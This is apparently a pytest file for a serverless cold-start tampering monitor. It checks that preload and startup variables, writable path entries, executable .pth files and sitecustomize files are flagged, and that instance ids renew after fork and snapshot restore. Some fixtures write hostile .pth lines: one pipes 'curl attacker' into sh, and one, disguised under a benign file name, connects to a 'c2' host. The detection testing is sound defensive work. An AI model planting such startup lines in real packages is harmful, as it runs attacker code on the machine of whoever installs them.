"""Start-up tampering and the per-instance id."""

from __future__ import annotations

import os
from pathlib import Path

from inprocess import events, make_shield

from sas.runtime.monitors.cold_start import InstanceIdentity, check_environment, check_startup_files


def kinds(found: list) -> list[str]:  # type: ignore[type-arg]
    return sorted(str(v.details.get("variable") or v.details.get("file") or v.details.get("module")) for v in found)


def test_tampering_variables() -> None:
    env = {
        "LD_PRELOAD": "/tmp/hook.so",
        "PYTHONSTARTUP": "/tmp/start.py",
        "AWS_LAMBDA_EXEC_WRAPPER": "/opt/wrapper",
        "PYTHONWARNINGS": "ignore::evilpkg.Warning",
        "PYTHONPATH": "/var/runtime:/tmp/site:/home/user/lib",
    }
    found = check_environment(env, code_dir="/var/task", writable=("/tmp",))
    assert kinds(found) == [
        "AWS_LAMBDA_EXEC_WRAPPER",
        "LD_PRELOAD",
        "PYTHONPATH",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONWARNINGS",
    ]
    writable = next(v for v in found if v.details.get("entry") == "/tmp/site")
    assert writable.severity == "high" and writable.details["writable"] is True
    assert {v.threat for v in found} == {"cold-start-tampering"}


def test_platform_defaults_and_allowed_variables_are_quiet() -> None:
    env = {
        "PYTHONPATH": "/var/runtime",
        "LD_LIBRARY_PATH": "/var/lang/lib:/opt/lib",
        "AWS_LAMBDA_EXEC_WRAPPER": "/opt/otel",
    }
    assert check_environment(env, allow_env=["AWS_LAMBDA_EXEC_WRAPPER"], code_dir="/var/task") == []


def test_executable_pth_and_sitecustomize(tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    site.mkdir()
    (site / "evil.pth").write_text("import os; os.system('curl attacker | sh')\n")
    (site / "paths.pth").write_text("/opt/extra\n")  # path lines run nothing
    (site / "distutils-precedence.pth").write_text(
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim();\n"
    )
    (site / "sitecustomize.py").write_text("print('hi')\n")
    found = check_startup_files([str(site)])
    assert kinds(found) == sorted([str(site / "evil.pth"), str(site / "sitecustomize.py")])
    assert check_startup_files([str(site)], allow=["evil.pth", "sitecustomize.py"]) == []


def test_disguised_benign_pth_name_is_not_trusted(tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    site.mkdir()
    (site / "distutils-precedence.pth").write_text("import socket; socket.create_connection(('c2', 443))\n")
    assert len(check_startup_files([str(site)])) == 1


def test_shield_records_tampering_at_cold_start(tmp_path: Path) -> None:
    shield = make_shield(tmp_path, mode="monitor", env={**os.environ, "LD_PRELOAD": "/tmp/x.so"})
    [event] = [e for e in events(shield, "cold-start") if e["verdict"] != "allow"]
    assert event["details"]["variable"] == "LD_PRELOAD" and event["severity"] == "critical"
    shield.close()


def test_instance_id_is_renewed_after_fork_and_snapstart_restore() -> None:
    identity = InstanceIdentity.create({})
    first, renewed = identity.current()
    assert not renewed and first == identity.instance_id
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: a forked worker must not share the parent's sub-log
        child, child_renewed = identity.current()
        os.write(write, f"{child} {child_renewed}".encode())
        os._exit(0)
    os.close(write)
    os.waitpid(pid, 0)
    second, renewed_text = os.read(read, 200).decode().split()
    os.close(read)
    assert renewed_text == "True" and second != first
    assert identity.current() == (first, False)  # the parent keeps its id
    snap = InstanceIdentity.create({"AWS_LAMBDA_INITIALIZATION_TYPE": "snap-start"})
    assert snap.snap_start
    snap.boot_id = "boot-of-the-snapshotting-vm"  # restored into another microVM
    third, renewed = snap.current()
    assert renewed and snap.restores == 1
    assert snap.renew() != third  # the runtime's after-restore hook calls renew()
